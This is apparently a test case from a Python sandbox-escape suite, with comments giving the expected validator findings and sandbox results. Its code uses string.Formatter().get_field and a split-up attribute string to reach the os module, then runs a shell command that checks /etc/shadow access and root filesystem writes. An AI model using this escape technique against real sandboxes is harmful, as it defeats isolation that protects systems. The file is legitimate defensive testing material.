# row: B31
# attack: Attribute access by a name built at run time through a library API, not getattr:
#   `string.Formatter().get_field("0.__init__.__globals__[os]", ...)` returns the os module itself.
# v-on-finding: rule=name.qualified_denied source=ast text='string.Formatter'
# v-on-finding: rule=attribute.denied source=ast text='get_field'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B31_string_formatter_get_field
# limits: wall_time_s=10
import os  # noqa: F401  (what the walk finds in this module's globals)
import string

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B31_string_formatter_get_field"
)


class Anything:
    def __init__(self):
        pass


field = "0." + "__in" + "it__.__glo" + "bals__[os]"
try:
    module, _ = string.Formatter().get_field(field, (Anything(),), {})
    system = getattr(module, "sys" + "tem")
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"string.Formatter().get_field() resolved {module!r}", flush=True)
    print(f"system() exit status {system(SHELL)}")
